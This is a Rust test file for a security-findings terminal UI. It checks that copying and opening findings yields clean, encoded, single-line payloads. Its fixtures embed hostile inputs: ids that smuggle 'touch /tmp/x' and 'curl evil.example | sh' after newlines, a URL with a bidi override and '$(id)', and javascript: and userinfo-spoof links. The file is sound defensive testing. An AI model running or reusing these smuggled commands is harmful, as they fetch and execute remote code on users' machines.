//! Pastejacking and hostile links: a finding whose id carries newlines and
//! whose link carries spaces, quotes and a bidi override, through every
//! pane's `y` (copy) and `o` (open). What reaches the clipboard or the
//! browser is one clean line, and a link is the parsed, encoded one.

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use findings_model::*;
use findings_tui::app::{App, Effect, Msg, Session};
use findings_tui::keymap::Keymap;
use findings_tui::message::{ApiRequest, ApiResponse, ExportItems, Reply, RequestId};
use findings_tui::theme::Theme;

/// An id that, pasted into a shell, would run a command.
const ID: &str = "F1\ntouch /tmp/x\n";
const AGENTIC_ID: &str = "ag-1\r\ncurl evil.example | sh\n";
/// A link with a space, quotes, a bidi override and a shell expansion.
const URL: &str = "https://git.example/acme/api/blob/main/a b\"c'd\u{202e}e.py$(id)#L1";
/// What may be pasted or launched of it.
const SAFE_URL: &str =
    "https://git.example/acme/api/blob/main/a%20b%22c%27d%E2%80%AEe.py%24%28id%29#L1";

fn finding(id: &str, url: Option<&str>) -> Issue {
    Issue {
        id: Some(id.into()),
        rule_id: Some("rule\u{202e}x".into()),
        file_path: Some("src/a\nb.py".into()),
        line: Some(3),
        line_of_code_url: url.map(str::to_owned),
        ..Default::default()
    }
}

/// The clipboard or browser payloads among `effects`.
fn handed_off(effects: &[Effect]) -> Vec<String> {
    effects
        .iter()
        .filter_map(|e| match e {
            Effect::Copy(t) => Some(t.to_string()),
            Effect::OpenUrl(u) => Some(u.to_string()),
            _ => None,
        })
        .collect()
}

/// One line, no controls, no bidi or zero-width characters.
fn assert_clean(payload: &str, what: &str) {
    for c in payload.chars() {
        assert!(
            !c.is_control()
                && !matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
                    | '\u{2060}'..='\u{2069}' | '\u{feff}'),
            "{what}: U+{:04X} in {payload:?}",
            c as u32
        );
    }
}

struct Screen {
    app: App,
    /// The findings the server listed: what it answers a single-issue
    /// fetch with.
    known: Vec<Issue>,
}

impl Screen {
    fn new() -> Screen {
        let app = App::new(
            Session {
                deployment: "1234".into(),
                demo: true,
                ..Default::default()
            },
            Keymap::default_keymap(),
            Theme::no_color(),
            (140, 45),
        );
        Screen {
            app,
            known: Vec::new(),
        }
    }

    /// A key, and the fetches of findings whole it makes answered (a row
    /// keeps only what the table shows): every effect of both.
    fn key(&mut self, c: KeyCode) -> Vec<Effect> {
        let effects = self
            .app
            .update(Msg::Key(KeyEvent::new(c, KeyModifiers::NONE)));
        self.serve(effects)
    }

    fn serve(&mut self, effects: Vec<Effect>) -> Vec<Effect> {
        let mut all = Vec::new();
        for effect in effects {
            if let Effect::Send {
                id,
                request: ApiRequest::GetIssue { id: finding },
            } = &effect
                && let Some(issue) = self.known.iter().find(|i| i.id() == finding).cloned()
            {
                let more = self.app.update(Msg::Reply(Reply {
                    id: *id,
                    result: Ok(ApiResponse::Issue(Box::new(issue))),
                }));
                all.extend(self.serve(more));
            }
            if let Effect::Send {
                id,
                request: ApiRequest::GetIssues { ids, items },
            } = &effect
            {
                let found: Vec<Issue> = ids
                    .iter()
                    .filter_map(|id| self.known.iter().find(|i| i.id() == id).cloned())
                    .collect();
                let answer = if *items {
                    ExportItems::Issues(
                        found
                            .into_iter()
                            .map(|i| IssueItem {
                                issue: Some(i),
                                ..Default::default()
                            })
                            .collect(),
                    )
                } else {
                    ExportItems::Findings(found)
                };
                let more = self.app.update(Msg::Reply(Reply {
                    id: *id,
                    result: Ok(ApiResponse::Items(answer)),
                }));
                all.extend(self.serve(more));
            }
            all.push(effect);
        }
        all
    }

    /// Keys in turn; the payloads they handed off.
    fn keys(&mut self, keys: &str) -> Vec<String> {
        let effects: Vec<Effect> = keys
            .chars()
            .flat_map(|c| self.key(KeyCode::Char(c)))
            .collect();
        handed_off(&effects)
    }

    fn reply(&mut self, id: RequestId, response: ApiResponse) -> Vec<Effect> {
        match &response {
            ApiResponse::ListIssues(page) => self
                .known
                .extend(page.issues.iter().filter_map(|i| i.issue.clone())),
            ApiResponse::Report(page) => self.known.extend(page.findings.iter().cloned()),
            _ => {}
        }
        self.app.update(Msg::Reply(Reply {
            id,
            result: Ok(response),
        }))
    }
}

fn sent(effects: &[Effect]) -> Vec<(RequestId, ApiRequest)> {
    effects
        .iter()
        .filter_map(|e| match e {
            Effect::Send { id, request } => Some((*id, request.clone())),
            _ => None,
        })
        .collect()
}

fn issues_page(findings: &[Issue]) -> ApiResponse {
    ApiResponse::ListIssues(ListIssuesResponse {
        issues: findings
            .iter()
            .map(|i| IssueItem {
                issue: Some(i.clone()),
                ..Default::default()
            })
            .collect(),
        cursor: None,
    })
}

#[test]
fn the_issues_list_copies_and_opens_clean_payloads() {
    let mut s = Screen::new();
    let first = sent(&s.app.start());
    s.reply(first[0].0, issues_page(&[finding(ID, Some(URL))]));
    assert_eq!(s.keys("o"), vec![SAFE_URL]);
    assert_eq!(s.keys("yu"), vec![SAFE_URL]);
    assert_eq!(s.keys("yi"), vec!["F1␤touch /tmp/x"]);
    let path = s.keys("yp");
    assert_eq!(path.len(), 1);
    assert_clean(&path[0], "path:line");
    // The table is many lines, each a row that no shell runs.
    let table = s.keys("ym");
    assert_eq!(table.len(), 1);
    for row in table[0].lines() {
        assert!(row.starts_with('|'), "{row:?}");
        assert_clean(row, "Markdown row");
    }
    assert!(!table[0].ends_with('\n'));
}

#[test]
fn the_detail_copies_and_opens_clean_payloads() {
    let mut s = Screen::new();
    let first = sent(&s.app.start());
    let findings = [finding("F0", Some(URL)), finding(ID, None)];
    s.reply(first[0].0, issues_page(&findings));
    s.key(KeyCode::Enter);
    assert!(s.app.detail.is_some());
    assert_eq!(s.keys("o"), vec![SAFE_URL]);
    assert_eq!(s.keys("y"), vec![SAFE_URL]);
    s.key(KeyCode::Esc);
    // A finding without a link: `y` copies its id, on one line.
    s.key(KeyCode::Char('j'));
    s.key(KeyCode::Enter);
    assert_eq!(s.keys("y"), vec!["F1␤touch /tmp/x"]);
    assert_eq!(s.keys("o"), Vec::<String>::new());
}

#[test]
fn a_link_that_cannot_be_made_safe_is_neither_opened_nor_copied() {
    let mut s = Screen::new();
    let first = sent(&s.app.start());
    let hostile = [
        finding("F0", Some("javascript:alert(1)")),
        finding("F1", Some("https://git.example/a\nb")),
        finding("F2", Some("https://good.example@evil.example/x")),
    ];
    s.reply(first[0].0, issues_page(&hostile));
    for row in 0..hostile.len() {
        if row > 0 {
            s.key(KeyCode::Char('j'));
        }
        assert_eq!(s.keys("o"), Vec::<String>::new(), "row {row}");
        assert!(s.app.status.as_deref().unwrap().contains("not opened"));
        assert_eq!(s.keys("yu"), Vec::<String>::new(), "row {row}");
    }
}

#[test]
fn the_report_list_copies_and_opens_clean_payloads() {
    let mut s = Screen::new();
    s.app.start();
    let effects = s.key(KeyCode::Char('1'));
    let (id, _) = sent(&effects)[0].clone();
    s.reply(
        id,
        ApiResponse::Report(ReportResponse {
            findings: vec![finding(ID, Some(URL))],
            total: Some(1),
            ..Default::default()
        }),
    );
    assert_eq!(s.keys("o"), vec![SAFE_URL]);
    assert_eq!(s.keys("yu"), vec![SAFE_URL]);
    assert_eq!(s.keys("yi"), vec!["F1␤touch /tmp/x"]);
}

#[test]
fn the_agentic_pane_copies_a_clean_id() {
    let mut s = Screen::new();
    s.app.start();
    let effects = s.key(KeyCode::Char('3'));
    let (id, _) = sent(&effects)[0].clone();
    s.reply(
        id,
        ApiResponse::Search(SearchIssuesResponse {
            issues: vec![AgenticIssue {
                id: Some(AGENTIC_ID.into()),
                title: Some("t".into()),
                ..Default::default()
            }],
            total: Some(1),
            cursor: None,
        }),
    );
    assert_eq!(s.keys("y"), vec!["ag-1␤curl evil.example | sh"]);
    s.key(KeyCode::Enter);
    assert_eq!(s.keys("y"), vec!["ag-1␤curl evil.example | sh"]);
}
